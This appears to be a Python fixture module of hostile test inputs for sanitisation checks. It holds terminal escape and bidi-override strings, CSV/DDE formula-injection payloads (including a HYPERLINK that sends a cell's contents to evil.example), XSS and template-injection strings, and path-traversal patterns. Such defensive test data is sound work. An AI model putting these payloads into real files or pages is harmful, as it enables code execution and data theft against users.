"""What do strangers write who mean harm? Texts that no output may take over as they are."""

CONTROL = (
    "\x1b[31mred\x1b[0m",
    "\x1b]0;planted title\x07",
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "back\x08\x08\x08space",
    "delete\x7f",
    "\x9b31mC1\x9b0m",
    "next\x85line",
    "\x01\x02\x03",
    "shift\x0e out\x0f",
    "feed\x0cform\x0b",
    "non\ufffe\uffffcharacters\ufdd0",
)
BIDI = (
    "\u202egpj.exe\u202c",
    "\u2066isolated\u2069",
    "\u2067\u202bturned",
    "user\u202e\u2066 //admin\u2069",
    "\u202d\u2068x",
)
FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"here")',
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＠SUM(1)",
    '=IMPORTXML("http://evil.example")',
)
HTML = (
    "<script>planted()</script>",
    '"><img src=planted onerror=planted()>',
    "<svg/onload=planted()>",
    "' onmouseover='planted()",
    "</title></style></script><script>planted()</script>",
    "<iframe srcdoc='<script>planted()</script>'>",
    "javascript:planted()",
    "{{ 7*7 }}{% include 'x' %}",
    "&lt;script&gt;planted()&lt;/script&gt;",
    "<!--",
    "]]><script>planted()</script>",
    "<math><mtext><img src=planted onerror=planted()>",
    "$\\frac{planted$",
    "[planted](javascript:planted())",
    "```\n# planted",
)
KINDS = {"control": CONTROL, "bidi": BIDI, "formula": FORMULAS, "html": HTML}
EVERYTHING = tuple(text for texts in KINDS.values() for text in texts)
LEVELS = 100_000  # of nested JSON
HUGE = (
    "1e999",
    "-1e999",
    "9" * 5_000,
    "1" + "0" * 400,
    "nan",
    "-inf",
    "0x7fffffffffffffff",
    "1e-999",
    "1_000",
    "٣٤٥",
    "−5",
)
FILE_NAME = '"><img src=x onerror=planted()>\n\x1b[31m=cmd|\u202e'  # no slash can stand in the name of a file
ESCAPES = ("../../{0}", "/tmp/{0}", "..\\..\\{0}", "C:\\{0}", "a/../../../{0}", "./.././../{0}")  # noqa: S108 - the target
